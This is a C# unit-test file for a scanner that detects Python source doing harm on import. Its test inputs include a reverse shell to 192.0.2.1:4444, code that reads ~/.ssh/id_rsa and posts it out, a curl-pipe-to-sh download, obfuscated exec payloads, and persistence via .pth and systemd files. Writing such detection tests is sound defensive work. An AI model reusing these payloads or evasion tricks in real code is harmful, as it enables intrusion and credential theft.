// Source that does harm on import is told; code of models, packages and installations passes.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.PythonSources;

public sealed class PythonSourceTests
{
    [Theory]
    [InlineData("import os\nos.system('touch /tmp/x')\n")]
    [InlineData("from subprocess import run as r\nr(['touch', 'x'])\n")]
    [InlineData("__import__('os').system('id > /tmp/x')\n")]
    [InlineData("import importlib\nimportlib.import_module('o' + 's').system('./x')\n")]
    [InlineData("getattr(__import__('os'), 'sys' + 'tem')('./x')\n")]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")]
    [InlineData("import base64, zlib\ndef f():\n    exec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADhUCsA==')))\n")]
    [InlineData("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n")]
    [InlineData("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n")]
    [InlineData("exec(''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46, 115, 121, 115, 116, 101, 109, 40, 39, 46, 47, 120, 39, 41]))\n")]
    [InlineData("import urllib.request\nurllib.request.urlopen('http://example.com/?x')\n")]
    [InlineData("import requests\nexec(requests.get('http://example.com/a').text)\n")]
    [InlineData("import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n")]
    [InlineData("import socket, subprocess, os\ndef f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 4444))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n")]
    [InlineData("import os\nclass A:\n    os.system('./x')\n")]
    [InlineData("import os\ndef f(x=os.system('./x')):\n    pass\n")]
    [InlineData("import os\n@(lambda f: os.system('./x'))\ndef g(): pass\n")]
    [InlineData("import os\ndef run():\n    os.system('./x')\nrun()\n")]
    [InlineData("import os, threading\ndef run():\n    os.system('./x')\nthreading.Thread(target=run).start()\n")]
    [InlineData("import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        super().__init__(c)\n        os.system('./x')\n")]
    [InlineData("import os\nfrom transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    def __init__(self, **k):\n        self._go()\n    def _go(self):\n        os.popen('./x')\n")]
    [InlineData("import torch.nn as nn, subprocess\nclass N(nn.Module):\n    def forward(self, x):\n        subprocess.Popen('./x', shell=True)\n        return x\n")]
    [InlineData("import ctypes\nctypes.CDLL(None).system(b'touch /tmp/x')\n")]
    [InlineData("from ctypes import CDLL\nlibc = CDLL('libc.so.6')\nlibc.system(b'touch /tmp/x')\n")]
    [InlineData("def f(os): pass\nimport os\nos.system('./x')\n")]
    [InlineData("import os\ndef run():\n    os.system('./x')\nTABLE = {'a': run}\nTABLE['a']()\n")]
    [InlineData("import os\ndef run():\n    os.system('./x')\nother = run\nother()\n")]
    [InlineData("import os, atexit\ndef run():\n    os.system('./x')\natexit.register(run)\n")]
    [InlineData("import os\nclass A:\n    def __init__(self):\n        os.system('./x')\nA()\n")]
    [InlineData("import os\ndef __getattr__(name):\n    os.system('./x')\n")]
    [InlineData("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://example.com', data=key)\n")]
    [InlineData("import os\nif True:\n    try:\n        os.system('curl http://example.com/a | sh')\n    except Exception:\n        pass\n")]
    [InlineData("import os\nwith open('/root/.bashrc', 'a') as f:\n    f.write('x')\nos.system('./x')\n")]
    [InlineData("import os; os.system('./x')\ndef broken(:\n")]
    [InlineData("# -*- coding: utf-7 -*-\nimport os\nos.system('./x')\n")]
    [InlineData("import os\nimport spacy\n@spacy.registry.callbacks('my.cb')\ndef make():\n    def run(nlp):\n        os.system('./x')\n    return run\n")]
    [InlineData("from spacy.language import Language\n@Language.factory('f')\ndef make(nlp, name):\n    __import__('subprocess').run(['./x'])\n")]
    public void T166_SourceThatDoesHarmIsFlagged(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("import os\ndef apply(f, *a, **k):\n    return f(*a, **k)\napply(os.system, './x')\n", 4)]
    [InlineData("import os\nfor f, a in ((print, 1), (os.system, './x')):\n    f(a)\n", 2)]
    [InlineData("import os\nimport itertools\nfor f, a in itertools.product([os.system], ['./x']):\n    f(a)\n", 3)]
    [InlineData("import os\ndef register(n):\n    def wrap(c):\n        os.system('./x')\n        return c\n    return wrap\n@register('a')\nclass A: pass\n", 4)]
    [InlineData("import os, functools\ndef traced(f):\n    @functools.wraps(f)\n    def inner(*a):\n        os.system('./x')\n        return f(*a)\n    return inner\n@traced\ndef g(x): return x\ny = g(1)\n", 5)]
    [InlineData("import os, threading\nthreading.Thread(target=os.system, args=('./x',)).start()\n", 2)]
    [InlineData("import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as e:\n    e.submit(os.system, './x')\n", 4)]
    [InlineData("import os, weakref\nclass O: pass\no = O()\nweakref.finalize(o, os.system, './x')\n", 4)]
    [InlineData("import os\nclass S:\n    @property\n    def ok(self):\n        os.system('./x')\n        return True\nif S().ok: pass\n", 5)]
    [InlineData("import os\nclass V:\n    def __add__(self, o):\n        return os.popen(o)\nV() + './x'\n", 4)]
    [InlineData("import os\ndef meta(n, b, d):\n    os.system('./x')\n    return type(n, b, d)\nclass A(metaclass=meta): pass\n", 3)]
    [InlineData("import os\nT = type('T', (), {'__init__': lambda s: os.system('./x')})\nT()\n", 2)]
    [InlineData("import os\nx: os.system('./x') = None\n", 2)]
    [InlineData("import os\nclass R:\n    def __init__(self):\n        self.todo = []\n    def add(self, f):\n        self.todo.append(f)\n        return f\n    def go(self):\n        for f in self.todo:\n            f('./x')\nr = R()\nr.add(os.system)\nr.go()\n", 10)]
    [InlineData("import os\nh = [n for n in dir(os) if n.startswith('sys') and n.endswith('em')][0]\ngetattr(os, h)('./x')\n", 3)]
    [InlineData("import os, pathlib\np = pathlib.Path.home() / '.config' / 'systemd' / 'user' / 'a.service'\np.write_text('x')\n", 3)]
    [InlineData("import os, site\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w').write('import os')\n", 2)]
    [InlineData("import os, sys, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'job.py'), 'w').write('import os\\nos.system(\"./x\")')\nsys.path.insert(0, d)\nimport job\n", 5)]
    [InlineData("import os\ndef parts():\n    yield 'sys'\n    yield 'tem'\ngetattr(os, ''.join(parts()))('./x')\n", 5)]
    [InlineData("import os, asyncio\nasync def m():\n    p = await asyncio.create_subprocess_shell('./x')\nasyncio.run(m())\n", 3)]
    public void T158_WhatValuesCarryIsFollowed(string source, int line)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");
        Assert.True(report.Findings.Any(f => f.Severity >= Assay.Detection.Severity.Medium && f.Phase == "import" && f.Line is { } at && Math.Abs(at - line) <= 1), report.Describe());
    }

    [Theory]
    [InlineData("import os, functools\ndef timed(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n    return inner\n@timed\ndef clean(p):\n    os.remove(p)\n")]
    [InlineData("import atexit, shutil, tempfile\nD = tempfile.mkdtemp()\natexit.register(shutil.rmtree, D, ignore_errors=True)\n")]
    [InlineData("import subprocess, threading\nclass Worker(threading.Thread):\n    def __init__(self, cmd):\n        super().__init__()\n        self.cmd = cmd\n    def run(self):\n        subprocess.run(self.cmd)\ndef main(cmd):\n    Worker(cmd).start()\n")]
    [InlineData("import subprocess, argparse\ndef build(a):\n    subprocess.run(['make'])\ndef main():\n    p = argparse.ArgumentParser()\n    p.set_defaults(func=build)\n    a = p.parse_args()\n    a.func(a)\nif __name__ == '__main__':\n    main()\n")]
    [InlineData("import os\nREADERS = {'.txt': open, '.bin': os.open}\ndef read(p):\n    return READERS[os.path.splitext(p)[1]](p)\n")]
    [InlineData("from pathlib import Path\nHERE = Path(__file__).parent\nVERSION = (HERE / 'VERSION').read_text().strip() if (HERE / 'VERSION').exists() else '0'\nCACHE = Path.home() / '.cache' / 'x'\nCACHE.mkdir(parents=True, exist_ok=True)\n")]
    [InlineData("import logging, signal, sys\ndef stop(s, f):\n    sys.exit(0)\nsignal.signal(signal.SIGTERM, stop)\nlogging.getLogger().addHandler(logging.StreamHandler())\n")]
    public void HandingFunctionsOnIsOrdinary(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
    }

    [Theory]
    [InlineData("modeling_x.py", "import math, os, warnings\nimport torch\nimport torch.nn as nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\nlogger = __import__('logging').getLogger(__name__)\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n        super().__init__(config)\n        self.w = nn.Linear(3, 3)\n    def forward(self, x):\n        return self.w(x)\n    @classmethod\n    def from_pretrained(cls, path, **k):\n        return torch.load(os.path.join(path, 'x.bin'), map_location='cpu')\n")]
    [InlineData("configuration_x.py", "from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n    def __init__(self, a=1, **kwargs):\n        self.a = a\n        super().__init__(**kwargs)\n")]
    [InlineData("tool.py", "import subprocess, sys, os\ndef main():\n    subprocess.run(['make'], check=True)\n    os.system('clear')\nif __name__ == '__main__':\n    subprocess.call(['ls'])\n    main()\n")]
    [InlineData("setup.py", "from setuptools import setup\nimport subprocess\nexec(open('version.py').read())\nsubprocess.check_call(['make'])\nsetup(name='x')\n")]
    [InlineData("client.py", "import requests\nclass Client:\n    def get(self, url):\n        return requests.get(url).json()\n")]
    [InlineData("x.py", "import subprocess\nversion = subprocess.check_output(['git', 'describe'])\n")]
    [InlineData("compat.py", "import sys\nif sys.version_info[0] == 2:\n    exec('def reraise(tp, value, tb):\\n    raise tp, value, tb\\n')\nelse:\n    def reraise(tp, value, tb): raise value\n")]
    [InlineData("plugin.py", "import subprocess\ndef run():\n    subprocess.call(['make'])\nregister('run', run)\n")]
    [InlineData("words.py", "STOP = ['os.system', 'eval(', '__import__']\nHELP = '''curl http://x | sh'''\n")]
    [InlineData("empty.py", "\n")]
    [InlineData("old.py", "print 'python 2'\n")]
    public void OrdinarySourcePasses(string name, string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(source), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe() + string.Join(';', report.Findings.Select(f => f.Message)));
        Assert.Equal(0, report.Bytes.Unknown);
    }

    [Fact]
    public void AFindingNamesTheLineAndTheFunction() => Assert.Contains(
        "run, line 3",
        Scans.Of("import os\ndef run():\n    os.system('./x')\nrun()\n"u8.ToArray(), "x.py").Findings.Single(f => f.Rule.Id == "source-runs-program").Message,
        StringComparison.Ordinal);

    [Fact]
    public void SourceIsToldWithoutAName() => Assert.Equal(Verdict.Suspicious, Scans.Of("import os\nos.system('./x')\n"u8.ToArray(), "weights").Verdict);

    [Fact]
    public void T166_ALineOfAPathFileRunsAtEachStart() =>
        Assert.True(Scans.Of("../lib\nimport os; os.system('./x')\n"u8.ToArray(), "a.pth").Verdict >= Verdict.Suspicious);

    [Theory]
    [InlineData("custom_generate/generate.py", "import os\ndef generate(model, **k):\n    os.system('./x')\n")]
    [InlineData("conftest.py", "import os\nos.system('./x')\n")]
    public void T158_WhatALoaderOrATestRunFindsByItsNameIsFlagged(string name, string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(source), name);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }
}
